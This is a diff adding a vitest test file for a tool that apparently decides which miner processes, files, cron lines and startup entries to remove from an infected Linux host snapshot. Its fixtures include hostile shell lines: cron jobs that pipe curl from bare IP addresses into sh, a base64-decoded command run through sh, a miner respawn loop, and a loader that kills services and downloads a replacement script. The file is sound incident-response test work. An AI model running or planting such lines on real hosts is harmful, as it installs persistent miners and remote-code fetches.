@@ -1,0 +1,319 @@
+import { describe, expect, it } from 'vitest';
+import { LOADER, labContext, POOL } from '../../../test/shared/infected-snapshot.ts';
+import type { ProcessInput } from '../../../test/shared/snapshots.ts';
+import {
+  cleanSnapshot,
+  crontab,
+  elf,
+  file,
+  hashOf,
+  identityOf,
+  image,
+  process,
+  socket,
+} from '../../../test/shared/snapshots.ts';
+import type { PersistenceEntry, Snapshot } from '../../snapshot.ts';
+import { judge } from '../index.ts';
+
+const linksOf = (snapshot: Snapshot) => judge(snapshot, labContext).links;
+const MINER = 'stratum+tcp://198.51.100.7:3333';
+
+/** A confirmed miner, pid 900, among the clean host's programs. */
+function host(miner: Partial<ProcessInput>, more: Partial<Snapshot> = {}): Snapshot {
+  const clean = cleanSnapshot();
+  const exe = miner.exe ?? '/tmp/m';
+  return cleanSnapshot({
+    ...more,
+    processes: [
+      ...clean.processes,
+      process({ pid: 900, argv: [exe, '-o', MINER], ...miner, exe }),
+      ...(more.processes ?? []),
+    ],
+    sockets: [...clean.sockets, socket([900], POOL, 3333), ...(more.sockets ?? [])],
+    files: [elf(exe, 'mining.subscribe mining.authorize'), ...(more.files ?? [])],
+  });
+}
+const ticked = (snapshot: Snapshot) => {
+  const { processes, files, cronLines, cronFiles, persistence } = linksOf(snapshot);
+  return {
+    processes: processes.filter((p) => p.selected).map((p) => p.pid),
+    files: files.filter((f) => f.selected).map((f) => f.path),
+    starters: [
+      ...cronLines.filter((c) => c.selected).map((c) => `${c.path} ${c.number}`),
+      ...[...cronFiles, ...persistence].filter((c) => c.selected).map((c) => c.path),
+    ],
+  };
+};
+const entry = (kind: PersistenceEntry['kind'], path: string, text: string): PersistenceEntry => ({
+  kind,
+  path,
+  identity: identityOf(path, text.length),
+  text,
+  truncated: false,
+});
+const listening = (pid: number, port = 8080) =>
+  socket([pid], '0.0.0.0', 0, { state: 'LISTEN', local: { address: '0.0.0.0', port } });
+
+describe('a guard script', () => {
+  const text =
+    '#!/bin/sh\nwhile true; do\n  pgrep -f /tmp/m >/dev/null || nohup /tmp/m >/dev/null 2>&1 &\n  sleep 1\ndone\n';
+  const guard = process({ pid: 899, exe: '/usr/bin/dash', argv: ['/bin/sh', '/opt/.x/watch.sh'] });
+  const sleep = process({ pid: 905, ppid: 899, exe: '/usr/bin/sleep', argv: ['sleep', '1'] });
+  it('is ticked with its file; its sleep, which is gone in a second, is covered', () => {
+    const snapshot = host(
+      { ppid: 899 },
+      { processes: [guard, sleep], files: [file('/opt/.x/watch.sh', text)] },
+    );
+    expect(ticked(snapshot)).toMatchObject({ processes: [899, 900], files: ['/opt/.x/watch.sh', '/tmp/m'] });
+    expect(linksOf(snapshot).covered).toEqual([{ pid: 905, by: 899 }]);
+  });
+  it('that also starts something of the host’s is not, and says what would end with it', () => {
+    const more = file('/opt/.x/watch.sh', `${text}/opt/shop/server &\n`);
+    const shop = process({ pid: 906, ppid: 899, exe: '/opt/shop/server' });
+    const snapshot = host({ ppid: 899 }, { processes: [guard, sleep, shop], files: [more] });
+    expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/m'] });
+    expect(linksOf(snapshot).files.find((f) => f.path === '/opt/.x/watch.sh')).toMatchObject({
+      linked: true,
+      lines: [3, 6],
+      caution: 'It starts something else too: /opt/shop/server.',
+    });
+  });
+});
+
+describe('the way in', () => {
+  it('is a web application, run as a script that no package owns: never ticked, its script never offered', () => {
+    const app = process({
+      pid: 899,
+      exe: '/usr/bin/python3.11',
+      argv: ['python3', '/srv/app/app.py'],
+      cgroup: '/system.slice/app.service',
+    });
+    const text =
+      '#!/usr/bin/env python3\nimport os, http.server\ndef run(c):\n    return os.popen(c).read()\n';
+    const snapshot = host(
+      { ppid: 899 },
+      { processes: [app], files: [file('/srv/app/app.py', text)], sockets: [listening(899)] },
+    );
+    const links = linksOf(snapshot);
+    expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/m'] });
+    expect(links.files.map((f) => f.path)).toEqual(['/tmp/m']);
+    expect(links.processes.find((p) => p.pid === 899)).toMatchObject({
+      role: 'parent',
+      selected: false,
+      linked: false,
+    });
+    expect(links.waysIn).toMatchObject([{ pid: 899, open: true }]);
+  });
+  it('is named by the control group where the parent is gone', () => {
+    const service = process({
+      pid: 899,
+      exe: '/opt/tomcat/bin/java',
+      cgroup: '/system.slice/tomcat.service',
+      startTicks: '5',
+    });
+    const links = linksOf(
+      host({ ppid: 1, cgroup: '/system.slice/tomcat.service' }, { processes: [service] }),
+    );
+    expect(links.waysIn).toEqual([{ pid: null, name: 'tomcat.service', open: true }]);
+    expect(links.processes.map((p) => p.pid)).toEqual([900]);
+  });
+  it('is an application whose worker started the miner, also where that worker listens nowhere', () => {
+    const master = process({ pid: 898, exe: '/opt/app/server', cgroup: '/system.slice/app.service' });
+    const worker = process({
+      pid: 899,
+      ppid: 898,
+      exe: '/opt/app/server',
+      cgroup: '/system.slice/app.service',
+    });
+    const links = linksOf(host({ ppid: 899 }, { processes: [master, worker], sockets: [listening(898)] }));
+    expect(links.processes.filter((p) => p.selected).map((p) => p.pid)).toEqual([900]);
+  });
+});
+
+it('one line added to a shop’s start script: neither script, shell nor shop is ticked, the line is told', () => {
+  const start = '#!/bin/sh\ncd /srv/shop\n./bin/shop --port 80 &\n/tmp/m -q &\nwait\n';
+  const shell = process({
+    pid: 898,
+    exe: '/usr/bin/dash',
+    argv: ['/bin/sh', '/srv/shop/start.sh'],
+    cgroup: '/system.slice/shop.service',
+  });
+  const shop = process({
+    pid: 897,
+    ppid: 898,
+    exe: '/srv/shop/bin/shop',
+    cgroup: '/system.slice/shop.service',
+  });
+  const unit = entry(
+    'systemd-unit',
+    '/etc/systemd/system/shop.service',
+    '[Service]\nExecStart=/srv/shop/start.sh\n',
+  );
+  const snapshot = host(
+    { ppid: 898 },
+    {
+      processes: [shell, shop],
+      files: [file('/srv/shop/start.sh', start)],
+      persistence: [unit],
+      sockets: [listening(897)],
+    },
+  );
+  expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/m'], starters: [] });
+  const script = linksOf(snapshot).files.find((f) => f.path === '/srv/shop/start.sh');
+  expect(script).toMatchObject({ linked: true, selected: false });
+  expect(script?.lines).toContain(4);
+  expect(linksOf(snapshot).persistence).toEqual([]);
+});
+
+it('a miner script under a copy of the shop’s own interpreter: the script is ticked, neither interpreter is', () => {
+  const sha256 = hashOf('the shop’s python');
+  const shop = process({
+    pid: 700,
+    exe: '/opt/shop/bin/python3',
+    argv: ['python3', '/opt/shop/app.py'],
+    image: { package: null, sha256 },
+  });
+  const snapshot = host(
+    {
+      exe: '/tmp/.x/kworker',
+      argv: ['/tmp/.x/kworker', '/tmp/.x/m.py', '-o', MINER],
+      image: { package: null, sha256 },
+    },
+    { processes: [shop], files: [file('/tmp/.x/m.py', '#!/usr/bin/env python3\nimport socket\n')] },
+  );
+  expect(ticked(snapshot)).toMatchObject({ processes: [900], files: ['/tmp/.x/m.py'] });
+  expect(linksOf(snapshot).files.some((f) => f.path.startsWith('/opt/shop'))).toBe(false);
+});
+
+describe('cron', () => {
+  const lines = (...text: string[]) => [crontab('/var/spool/cron/crontabs/root', text)];
+  const line = (text: string) => linksOf(host({}, { cronFiles: lines(text) })).cronLines;
+  it('a line that fetches from a bare public address is ticked, also with a carriage return and a comment', () => {
+    expect(
+      line(`* * * * * curl -fsSL http://203.0.113.20:8443/i.sh|sh;\r# nothing to see here`),
+    ).toMatchObject([{ selected: true, linked: false }]);
+    expect(line('* * * * * curl -fsSL http://0xCB007114:8443/i.sh | sh')).toMatchObject([{ selected: true }]);
+  });
+  it('one from the company’s own network, by name, or with TLS is not', () => {
+    expect(line('* * * * * curl -fsSL http://192.0.2.80/deploy.sh | sh')).toMatchObject([
+      { selected: false },
+    ]);
+    expect(line('* * * * * curl -fsSL http://10.1.2.3/deploy.sh | sh')).toMatchObject([{ selected: false }]);
+    expect(line('* * * * * curl -fsSL https://deploy.corp.example/sync.sh | sh')).toMatchObject([
+      { selected: false },
+    ]);
+  });
+  it('one that asks for the miner first is linked by that; a name that others bear links nothing', () => {
+    const asks = '* * * * * pgrep -f m4x >/dev/null || curl -fsSL https://cdn.example/x | sh';
+    const of = (more: Partial<Snapshot> = {}) =>
+      linksOf(host({ exe: '/tmp/m4x' }, { cronFiles: lines(asks), ...more })).cronLines;
+    expect(of()).toMatchObject([{ selected: true, linked: true }]);
+    expect(of({ processes: [process({ pid: 901, exe: '/opt/app/m4x' })] })).toMatchObject([
+      { selected: false, linked: false },
+    ]);
+  });
+  it('one that does something else as well is linked and not ticked', () => {
+    expect(line('@daily /opt/backup/run.sh; /tmp/m -q')).toMatchObject([{ linked: true, selected: false }]);
+    expect(line('@daily cd /tmp && ./m -q; sleep 1; rm -f /tmp/x')).toMatchObject([
+      { linked: true, selected: true },
+    ]);
+  });
+  it('one that decodes what it runs is read through', () => {
+    expect(line(`* * * * * echo ${btoa('/tmp/m -q')} | base64 -d | sh`)).toMatchObject([
+      { linked: true, selected: true },
+    ]);
+  });
+});
+
+describe('other starters', () => {
+  const of = (...persistence: PersistenceEntry[]) =>
+    linksOf(host({}, { persistence })).persistence.map((p) => [p.path, p.selected]);
+  it('a unit or an rc line that ends with the path is linked', () => {
+    expect(
+      of(entry('systemd-unit', '/etc/systemd/system/a.service', '[Service]\\u{a}ExecStart=/tmp/m\\u{a}')),
+    ).toEqual([['/etc/systemd/system/a.service', true]]);
+    expect(of(entry('rc', '/etc/rc.local', '#!/bin/sh\\u{a}/tmp/m\\u{a}exit 0\\u{a}'))).toEqual([
+      ['/etc/rc.local', true],
+    ]);
+    expect(of(entry('profile', '/root/.bashrc', 'nohup ~/../tmp/m >/dev/null 2>&1 &'))).toEqual([
+      ['/root/.bashrc', true],
+    ]);
+  });
+  it('prefixes, timers and links are seen through; what only names it is not linked', () => {
+    const service = entry(
+      'systemd-unit',
+      '/etc/systemd/system/a.service',
+      '[Service]\nExecStart=-@/tmp/m m -q\n',
+    );
+    const timer = entry('systemd-unit', '/etc/systemd/system/a.timer', '[Timer]\nOnCalendar=hourly\n');
+    const wants = entry(
+      'systemd-unit',
+      '/etc/systemd/system/multi-user.target.wants/a.service',
+      '/etc/systemd/system/a.service',
+    );
+    const scan = entry(
+      'systemd-unit',
+      '/etc/systemd/system/scan.service',
+      '[Service]\nExecStart=/opt/scan/run --remove /tmp/m\nConditionPathExists=/tmp/m\n',
+    );
+    expect(of(service, timer, wants)).toEqual([
+      [service.path, true],
+      [timer.path, true],
+      [wants.path, true],
+    ]);
+    expect(of(scan)).toEqual([[scan.path, false]]);
+  });
+});
+
+describe('names are not trusted', () => {
+  it.each(['crond', 'sshd', 'systemd', 'tmux', 'init', 'java'])(
+    'a guard that is called %s is a guard',
+    (name) => {
+      const guard = process({ pid: 899, exe: `/tmp/.x/${name}` });
+      expect(
+        ticked(host({ ppid: 899 }, { processes: [guard], files: [elf(`/tmp/.x/${name}`)] })),
+      ).toMatchObject({ processes: [899, 900] });
+    },
+  );
+  it('a miner mounted over a package’s program is no package’s', () => {
+    const mounted = image('/usr/sbin/cron', {
+      device: '64',
+      inode: '77',
+      package: 'cron',
+      sha256: hashOf('m'),
+    });
+    const there = file('/usr/sbin/cron', 'the real one', { package: 'cron' });
+    const from = elf('/var/lib/.c/cron', 'mining.subscribe mining.authorize', {
+      sha256: hashOf('m'),
+      identity: identityOf('/x', 1, { device: '64', inode: '77' }),
+    });
+    const snapshot = host({ exe: '/usr/sbin/cron', image: mounted }, {});
+    expect(ticked({ ...snapshot, files: [there, from] }).files).toEqual(['/var/lib/.c/cron']);
+  });
+});
+
+describe('what the attacker writes steers nothing', () => {
+  it('a loader that kills, tests and overwrites strangers’ programs ticks none of them', () => {
+    const daemon = process({
+      pid: 701,
+      exe: '/usr/bin/dash',
+      argv: ['sh', '/run/payments/daemon.sh'],
+      cgroup: '/system.slice/payments.service',
+    });
+    const build = process({ pid: 702, exe: '/tmp/build-4711/compile' });
+    const psql = process({ pid: 703, ppid: 701, exe: '/usr/bin/psql' });
+    const loader = `#!/bin/sh\npkill -f /run/payments/daemon.sh\ntest -x /tmp/build-4711/compile && rm -f /tmp/build-4711/compile\ncurl http://${LOADER}:8443/x -o /run/payments/daemon.sh\n/tmp/m &\n`;
+    const snapshot = host(
+      {},
+      {
+        processes: [daemon, build, psql],
+        files: [
+          file('/tmp/i.sh', loader),
+          file('/run/payments/daemon.sh', '#!/bin/sh\npsql -c x\n'),
+          elf('/tmp/build-4711/compile'),
+        ],
+      },
+    );
+    expect(ticked(snapshot)).toEqual({ processes: [900], files: ['/tmp/i.sh', '/tmp/m'], starters: [] });
+  });
+});
